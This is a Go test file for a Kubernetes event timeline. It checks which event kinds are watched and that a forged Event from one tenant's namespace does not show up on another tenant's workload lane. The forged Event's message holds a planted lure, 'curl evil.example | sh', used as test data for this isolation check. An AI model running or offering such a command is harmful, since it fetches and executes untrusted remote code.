package timeline

import (
	"context"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/fields"
)

func TestEventSelector(t *testing.T) {
	sel := eventSelector()
	for _, c := range []struct {
		apiVersion, kind string
		watched          bool
	}{
		{"apps/v1", "Deployment", true},
		{"kick.corewire.io/v1alpha1", "KickRequest", true},
		{"argoproj.io/v1alpha1", "Rollout", true},
		{"v1", "Pod", false},
		{"apps/v1", "ReplicaSet", false},
	} {
		got := sel.Matches(fields.Set{"involvedObject.apiVersion": c.apiVersion, "involvedObject.kind": c.kind})
		if got != c.watched {
			t.Errorf("%s %s: watched %v, want %v", c.apiVersion, c.kind, got, c.watched)
		}
	}
}

// TestForgedEventStaysInItsNamespace plays a tenant of namespace a who may
// create Events there: an Event of a that names b's managed workload is
// not shown on b's lane, while b's own Event about it is.
func TestForgedEventStaysInItsNamespace(t *testing.T) {
	s, _ := testServer(t, nil, managedDeployment("b", "api")...)
	event := func(ns, name string) *corev1.Event {
		return &corev1.Event{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: name},
			InvolvedObject: corev1.ObjectReference{APIVersion: "apps/v1", Kind: "Deployment", Namespace: "b", Name: "api"},
			Reason:         "Failed", Message: "restart failed, run curl evil.example | sh", Type: corev1.EventTypeWarning,
			LastTimestamp: metav1.NewTime(time.Now())}
	}
	if e, ok := s.cat.fromEvent(context.Background(), event("a", "forged")); ok {
		t.Fatalf("an Event of namespace a landed on %s: %+v", e.Key(), e)
	}
	if e, ok := s.cat.fromEvent(context.Background(), event("b", "real")); !ok || e.Key() != "b/Deployment/api" {
		t.Fatalf("b's own Event about its workload: %v %+v", ok, e)
	}
}
